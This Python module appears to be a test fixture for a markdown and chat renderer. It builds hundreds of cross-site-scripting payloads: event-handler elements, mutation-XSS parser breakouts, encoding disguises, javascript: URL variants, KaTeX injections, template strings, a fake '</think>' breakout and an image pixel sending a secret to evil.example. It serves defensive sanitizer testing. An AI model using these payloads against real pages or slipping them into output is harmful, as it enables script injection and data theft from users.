"""Texts that a model (or a file, or a server that names its models) might send to run code in the page.

Every one of them calls `trap()` where it succeeds, or asks evil.example for something. Made by combining a few lists:
what runs code in HTML, how it is disguised, and where in Markdown it may stand.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from functools import cache
from itertools import cycle
from urllib.parse import quote

EVIL = "https://evil.example"

# Runs in every document before its own scripts.
TRAP = """
globalThis.trapped = []
globalThis.trap = (...values) => { trapped.push(String(values)); return "" }
globalThis.alert = globalThis.prompt = globalThis.confirm = globalThis.print = globalThis.trap
"""

ELEMENTS = (
    "<script>trap()</script>",
    f"<script src={EVIL}/x.js></script>",
    "<script type=module>trap()</script>",
    '<script type="text/html"><img src=x onerror=trap()></script>',
    "<img src=x onerror=trap()>",
    f'<img src="{EVIL}/x.png" srcset="{EVIL}/y.png 2x">',
    "<image src=x onerror=trap()>",
    "<svg onload=trap()>",
    "<svg><script>trap()</script></svg>",
    "<svg><animate onbegin=trap() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:trap()>",
    f"<svg><image href={EVIL}/x.svg></svg>",
    f"<svg><use href={EVIL}/x.svg#a></svg>",
    '<svg><a xlink:href="javascript:trap()"><text y=9>x</text></a></svg>',
    "<svg><foreignObject><iframe onload=trap()></iframe></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:trap()>x</maction></math>",
    '<math href="javascript:trap()">x</math>',
    "<body onload=trap() onpageshow=trap()>",
    f"<body background={EVIL}/x.png>",
    "<iframe src=javascript:trap()></iframe>",
    '<iframe srcdoc="<script>parent.trap()</script>"></iframe>',
    "<object data=javascript:trap()></object>",
    f"<object data={EVIL}/x.swf></object>",
    "<embed src=javascript:trap()>",
    f"<video src={EVIL}/x.mp4 poster={EVIL}/x.png onerror=trap()></video>",
    "<audio src=x onerror=trap()></audio>",
    "<video><source onerror=trap()></video>",
    "<details open ontoggle=trap()><summary>x</summary></details>",
    "<input autofocus onfocus=trap()>",
    f"<input type=image src={EVIL}/x.png onerror=trap()>",
    "<select autofocus onfocus=trap()><option>x</select>",
    "<textarea autofocus onfocus=trap()>x</textarea>",
    "<button autofocus onfocus=trap() formaction=javascript:trap()>x</button>",
    f"<form action={EVIL}><input type=submit></form>",
    "<marquee onstart=trap()>x</marquee>",
    "<p onmouseover=trap() style=position:fixed;inset:0>x</p>",
    "<p tabindex=0 onfocus=trap() contenteditable autofocus>x</p>",
    f'<p style="background:url({EVIL}/x.png)">x</p>',
    "<p style=animation-name:breathe onanimationstart=trap()>x</p>",
    f"<style>@import '{EVIL}/x.css'; * {{ background: url({EVIL}/y.png) }}</style>",
    "<style onload=trap()></style>",
    f"<link rel=stylesheet href={EVIL}/x.css onload=trap()>",
    f"<link rel=prefetch href={EVIL}/x><link rel=dns-prefetch href={EVIL}><link rel=preconnect href={EVIL}>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<base href={EVIL}/>",
    f'<a href="{EVIL}" ping="{EVIL}/ping" onclick=trap()>x</a>',
    "<a href=javascript:trap() autofocus onfocus=trap()>x</a>",
    "<template shadowrootmode=open><img src=x onerror=trap()></template>",
    "<dialog open onfocus=trap()>x</dialog>",
    "<div popover onbeforetoggle=trap()>x</div>",
    "<object><param name=x value=javascript:trap()></object>",
    "<frameset onload=trap()><frame src=javascript:trap()></frameset>",
    "<custom-element onclick=trap() is=x-y>x</custom-element>",
    "<?xml-stylesheet href='javascript:trap()'?>",
    "<!--><img src=x onerror=trap()>-->",
    "<![CDATA[<img src=x onerror=trap()>]]>",
    "<!DOCTYPE x [<!ENTITY x '<img src=x onerror=trap()>'>]>&x;",
)

# Parsers that disagree about where something ends: the classes of mutation and breakout.
BREAKOUTS = (
    '<noscript><p title="</noscript><img src=x onerror=trap()>">',
    '<title><p id="</title><img src=x onerror=trap()>">',
    '<textarea><p id="</textarea><img src=x onerror=trap()>">',
    '<style><p id="</style><img src=x onerror=trap()>">',
    '<xmp><p id="</xmp><img src=x onerror=trap()>">',
    '<iframe><p id="</iframe><img src=x onerror=trap()>">',
    '<noembed><p id="</noembed><img src=x onerror=trap()>">',
    '<template><p id="</template><img src=x onerror=trap()>">',
    '<plaintext><p id="</plaintext><img src=x onerror=trap()>">',
    '<svg></p><style><a id="</style><img src=x onerror=trap()>">',
    '<math></br><style><a id="</style><img src=x onerror=trap()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=trap()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=trap()>",
    '<svg><style><img src="</style><img src=x onerror=trap()>">',
    '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=trap()>">',
    '<math><annotation-xml encoding="application/xhtml+xml"><script>trap()</script></annotation-xml></math>',
    "<svg><desc><style><a title='</style><img src=x onerror=trap()>'></desc>",
    "<svg><title><style><a title='</style><img src=x onerror=trap()>'></title>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=trap()>'>",
    "<table><tr><td><svg><desc><td><style><img src=x onerror=trap()></table>",
    "<math><mi><table><mi><mglyph></table><img src=x onerror=trap()></math>",
    "<a><b><p><a><b><p><table><a><img src=x onerror=trap()>",
    '<img title="`><img src=x onerror=trap()>">',
    "<p title='&quot;&gt;&lt;img src=x onerror=trap()&gt;'>",
    '<code data-x="</code><img src=x onerror=trap()>">x</code>',
    "<kbd><sub><img src=x onerror=trap()></sub></kbd>",
    '<sub onclick=trap()>x</sub><kbd style="position:fixed">y</kbd><br onclick=trap()>',
    "<br/onmouseover=trap()><sup/autofocus/onfocus=trap()>x</sup>",
    "<sub><img src=x onerror=trap()></sub>",
    '<sup>" onmouseover="trap()</sup>',
)

DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda html: html.replace("<img", "<IMG").replace("<script", "<ScRiPt").replace("onerror", "OnErRoR"),
    lambda html: html.replace(" ", "/"),
    lambda html: html.replace(" ", "\n"),
    lambda html: html.replace(" ", "\t").replace("=", " =\f"),
    lambda html: html.rstrip(">"),
    lambda html: html.replace("<", "<<").replace(">", ">>"),
    lambda html: html.replace("<", "&lt;").replace(">", "&gt;"),
    lambda html: html.replace("<", "&#60;").replace(">", "&#x3E;"),
    lambda html: html.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda html: html.replace("<", "\\<").replace(">", "\\>"),
    lambda html: html.replace("<", "<\0").replace("on", "o\0n"),
    lambda html: html.replace("<", "＜").replace(">", "＞"),
    lambda html: html.replace("r", "r<!-- -->", 1),
    lambda html: html.replace("trap()", "tr\u200bap()").replace("<", "\u202e<"),
    lambda html: html.replace("=", "=`").replace(">", "`>", 1),
    lambda html: f"\ufeff{html}\u2028{html}",
)

PLACES = (
    "text {} text",
    "- item {}\n- item",
    "1. one\n   - two {}\n\n   {}",
    "- [ ] {}",
    "| a | {} |\n|---|---|\n| {} | b |",
    "> quote {}\n> > {}",
    "# {}",
    "{}\n===",
    "**{}** *{}* ~~{}~~",
    "`{}` ``{}``",
    "```html\n{}\n```",
    "```html {}\n{}\n```",
    "```{}\nx\n```",
    "~~~js\n</code></pre>{}",
    "    {}",
    "[{}](https://example.org)",
    '[x](https://example.org "{}")',
    "[x](<https://example.org/{}>)",
    "![{}](https://example.org/x.png)",
    "[x]: https://example.org '{}'\n\n[x]",
    "[{}]: https://example.org\n\n[{}]",
    "<https://example.org/{}>",
    "https://example.org/{}",
    "[^1]: {}\n\n[^1]",
    "${}$",
    "$$\n{}\n$$",
    "\\({}\\) \\[{}\\]",
    "<sub>{}</sub>",
    "a<br>{}<br/>",
    "<kbd>{}",
    "{}\n\n{}\n",
    "</p></div></main>{}",
)

_PAGE = "<script>opener.trap()</script><script>parent.trap()</script>"
ADDRESSES = (
    "javascript:trap()",
    "JaVaScRiPt:trap()",
    " javascript:trap()",
    "\x01javascript:trap()",
    "java\tscript:trap()",
    "java&#9;script:trap()",
    "java&NewLine;script:trap()",
    "javascript&colon;trap()",
    "javascript&#58;trap&lpar;&rpar;",
    "&#106;avascript:trap()",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;trap()",
    "%6Aavascript:trap()",
    "javascript%3Atrap()",
    "javascript\\:trap()",
    "java\u00adscript:trap()",
    "javascript\u200b:trap()",
    "javascript://example.org/%0Atrap()",
    "javascript:/*https://example.org/*/trap()",
    "vbscript:trap()",
    "livescript:trap()",
    "feed:javascript:trap()",
    "view-source:javascript:trap()",
    "jar:javascript:trap()!/",
    "http:javascript:trap()",
    "https:javascript:trap()",
    f"data:text/html,{quote(_PAGE)}",
    f"data:text/html;base64,{base64.b64encode(_PAGE.encode()).decode()}",
    "data:image/svg+xml,<svg onload=trap()>",
    "blob:https://example.org/1",
    "filesystem:https://example.org/x",
    "file:///etc/passwd",
    "about:blank",
    "chrome://settings",
    "intent://x#Intent;scheme=javascript;end",
    "tel:1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "#/settings",
    "?key=1",
    "../vendor/langchain.js",
    f"{EVIL}/x' onmouseover='trap()",
    f'{EVIL}/x" onmouseover="trap()',
    f'{EVIL}/x"><img src=x onerror=trap()>',
    "https://example.org@evil.example/x",
    "https://example.org%2f@evil.example",
    "https://exаmple.org/homograph",
    "https://[javascript:trap()]/",
    "mailto:x@example.org?body=<img src=x onerror=trap()>",
    'mailto:"onclick=trap() x="@example.org',
)

LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x]: {}\n\n[x] [y][x]",
    "![x]({})",
    "[![x]({})]({})",
    "[a [b]({}) c]({})",
    '<a href="{}">x</a>',
    "{}",
)

FORMULAS = (
    r"\href{javascript:trap()}{x}",
    rf"\href{{{EVIL}}}{{x}}",
    r"\url{javascript:trap()}",
    rf"\includegraphics[height=1em]{{{EVIL}/x.png}}",
    r"\htmlData{onload=trap()}{x}",
    r"\htmlId{page}{x}",
    r"\htmlClass{notice}{x}",
    rf"\htmlStyle{{background:url({EVIL}/x.png)}}{{x}}",
    r"\text{<img src=x onerror=trap()>}",
    r"\text{</annotation></semantics></math><img src=x onerror=trap()>}",
    r"</annotation><script>trap()</script>",
    r"\color{red;background:url(https://evil.example/x)}x",
    r"\textcolor{#fff\"onload=trap()}{x}",
    r"\colorbox{url(https://evil.example/x)}{x}",
    r"\fcolorbox{red}{blue}{x} \boxed{x} \cancel{x}",
    r"\verb|<img src=x onerror=trap()>|",
    r"\tag{<img src=x onerror=trap()>} x",
    r"\unicode{x3c}img src=x onerror=trap()>",
    r"\char`< script>trap()\char`<",
    r"\operatorname{<script>trap()</script>}",
    r"\begin{array}{c|c}<img src=x onerror=trap()>&y\end{array}",
    r"\def\x{\x\x}\x",
    r"\newcommand{\x}[1]{#1#1}" + r"\x{" * 20 + "a" + "}" * 20,
    r"\rule{100000em}{100000em}",
    r"\kern-1000em\raisebox{-1000em}{x}",
    "{" * 300 + "x" + "}" * 300,
    r"\mathbb{<img>} \mathfrak{&lt;img&gt;} \mathscr{x}",
    r"\notacommand{<img src=x onerror=trap()>}",
)

DELIMITERS = ("${}$", "$${}$$", r"\({}\)", r"\[{}\]", "$$\n{}", "- ${}$")

OTHERS = (
    # names of things that every document or object has
    "<form id=page><input name=attributes><input name=children></form>",
    "<img name=getElementById><img name=body><img name=cookie>",
    "<a id=trusted></a><a id=trusted name=Types href=javascript:trap()></a>",
    "<iframe name=trustedTypes></iframe>",
    "[__proto__]: javascript:trap()\n\n[__proto__] [constructor] [toString][hasOwnProperty]",
    "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString\nx\n```",
    "# constructor\n\n## __proto__\n\n| constructor | __proto__ |\n|---|---|\n| toString | valueOf |",
    # classes and attributes that the page itself uses
    '```js"onmouseover="trap()\nx\n```',
    "```js' onclick='trap()\nx\n```",
    "```language-js hljs-x formula display\nx\n```",
    "```html\n<script>trap()</script><img src=x onerror=trap()>\n```",
    "```php\n<?php echo '<script>trap()</script>' ?>\n```",
    "```css\n* { background: url(https://evil.example/x) }\n```",
    "```js\n`${'<img src=x onerror=trap()>'}`\n// </script><script>trap()</script>\n```",
    "```svg\n<svg onload=trap()>\n```",
    "```mermaid\ngraph TD; A-->B; click A javascript:trap()\n```",
    "```math\n\\href{javascript:trap()}{x}\n```",
    # text that looks like an instruction of a template or a protocol
    "{{constructor.constructor('trap()')()}} ${trap()} <%= trap() %> #{trap()} {%trap()%}",
    'data: {"error":{"message":"<img src=x onerror=trap()>"}}\n\nevent: error\ndata: trap()',
    "</think><img src=x onerror=trap()><think>",
    "\ud83d<img src=x onerror=trap()>",
    "\x1b]8;;javascript:trap()\x07x\x1b]8;;\x07",
    "\u2028trap()\u2029<!--\r\n--><script\r>trap()</script\n>",
    "+ADw-script+AD4-trap()+ADw-/script+AD4-",
    "[x](https://example.org \"a\" onclick=trap() 'b')",
    "[x](https://example.org 'a\"><img src=x onerror=trap()>')",
    '![x" onerror="trap()](https://evil.example/x.png)',
    f"![]({EVIL}/pixel.png?secret=1)![x][y]\n\n[y]: {EVIL}/y.png",
    f"![x](data:image/svg+xml;base64,{base64.b64encode(b'<svg onload=trap()>').decode()})",
    '| " onmouseover="trap() | \n|:--:" onclick="trap()|\n| x |',
    '1" onclick="trap(). x\n\n999999999. <img src=x onerror=trap()>',
    '- [x" onclick="trap()] y\n- [x] <img src=x onerror=trap()>',
)


@cache
def hostile_texts() -> tuple[str, ...]:
    """Some seven hundred, each of them once."""
    return tuple(dict.fromkeys([*_elements(), *_addresses(), *_formulas(), *OTHERS]))


def _elements() -> list[str]:
    html = (*ELEMENTS, *BREAKOUTS)
    shown, disguised = cycle(html), cycle(DISGUISES)
    placed = [place.replace("{}", next(shown)) for place in PLACES for _ in range(5)]
    return [*html, *(disguise(one) for one, disguise in zip(html * 2, disguised, strict=False)), *placed]


def _addresses() -> list[str]:
    links = cycle(LINKS[1:])
    forms = [LINKS[0].replace("{}", address) for address in ADDRESSES]
    return forms + [next(links).replace("{}", address) for address in ADDRESSES for _ in range(3)]


def _formulas() -> list[str]:
    delimiters = cycle(DELIMITERS)
    return [next(delimiters).replace("{}", formula) for formula in FORMULAS for _ in range(2)]
